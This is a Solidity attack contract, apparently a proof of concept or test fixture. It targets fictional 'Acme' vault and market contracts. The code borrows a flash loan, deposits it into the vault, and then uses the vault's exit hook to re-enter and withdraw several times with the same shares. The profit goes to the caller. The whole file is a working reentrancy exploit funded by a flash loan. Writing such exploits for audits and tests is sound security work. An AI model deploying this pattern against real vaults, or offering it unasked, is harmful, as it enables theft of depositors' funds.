// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {AcmeMarket, IFlashBorrower} from "../AcmeMarket.sol";
import {AcmeVault, IExitHook} from "../AcmeVault.sol";

/// @title Deposits a flash loan and leaves the vault several times with the same shares.
contract ReentrantExit is IExitHook, IFlashBorrower {
    AcmeVault private immutable vault;
    AcmeMarket private immutable market;
    IERC20 private immutable dollar;
    uint256 private exitsLeft;

    constructor(AcmeVault vault_, AcmeMarket market_) {
        vault = vault_;
        market = market_;
        dollar = market_.dollar();
    }

    /// The gain goes to the caller.
    function strike(uint256 loan, uint256 exits) external {
        exitsLeft = exits;
        market.flashLoan(loan, "");
        dollar.transfer(msg.sender, dollar.balanceOf(address(this)));
    }

    function onFlashLoan(uint256 amount, bytes calldata) external {
        dollar.approve(address(vault), amount);
        vault.deposit(amount, address(this));
        _exit();
        dollar.approve(address(market), amount);
    }

    function onExit(uint256) external {
        if (exitsLeft > 0) _exit();
    }

    function _exit() private {
        exitsLeft--;
        vault.exit(address(this));
    }
}
